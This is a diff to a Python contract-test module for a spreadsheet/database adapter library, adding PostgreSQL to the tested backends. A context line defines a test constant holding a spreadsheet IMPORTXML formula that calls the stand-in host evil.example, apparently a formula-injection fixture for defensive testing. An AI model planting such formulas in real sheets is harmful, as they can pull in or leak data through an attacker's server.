@@ -1,4 +1,5 @@
-"""One contract, every adapter: the same tests run on SQLite and on Google Sheets (via the fake).
+"""One contract, every adapter: the same tests run on SQLite, on PostgreSQL (a real server, see
+tests/pg_cluster.py) and on Google Sheets (via the fake).
 
 The Google adapter goes through real gspread and google-auth over HTTP to tests/fakes/sheets_api.py.
 """
@@ -15,6 +16,7 @@ from sheets_schema.changes import WriteJob
 from sheets_schema.errors import HeaderError, InvalidRowError, StaleWorkbookError
 from sheets_schema.tabs import ORDERS, PRODUCTS, STOCK, SYSTEM_STATE, TABS
 
+HARNESS_BACKENDS = ("sql", "postgresql", "google")
 NOW = datetime(2026, 11, 30, 14, 5, tzinfo=JST)
 FORMULA = '=IMPORTXML("http://evil.example/x","//a")'
 
